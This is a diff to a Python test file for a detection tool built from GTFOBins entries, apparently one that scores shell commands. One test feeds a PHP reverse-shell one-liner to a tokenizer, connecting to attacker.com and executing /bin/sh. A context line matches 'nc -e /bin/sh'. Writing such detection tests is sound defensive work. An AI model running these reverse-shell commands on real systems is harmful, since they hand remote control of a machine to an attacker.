@@ -298,6 +298,15 @@ def test_gtfobins_front_matter_both_layouts_reduced_to_distinctive_tokens(tmp_pa
     assert packs.match(1, ["nc", "-e", "/bin/sh", "h", "1"], "")[0].level == "high"
 
 
+def test_gtfobins_placeholders_in_any_spelling_are_not_tokens() -> None:
+    code = (
+        "export RHOST=attacker.com\nexport RPORT=12345\n"
+        'php -r \'$sock=fsockopen(getenv("RHOST"),getenv("RPORT"));exec("/bin/sh -i <&3");\''
+    )
+    words = rulepacks.example_tokens(code, "php")
+    assert "fsockopen" in words and not any("rhost" in w or "rport" in w for w in words)
+
+
 def test_gtfobins_bad_front_matter_is_skipped(tmp_path: Path) -> None:
     folder = tmp_path / "_gtfobins"
     folder.mkdir()
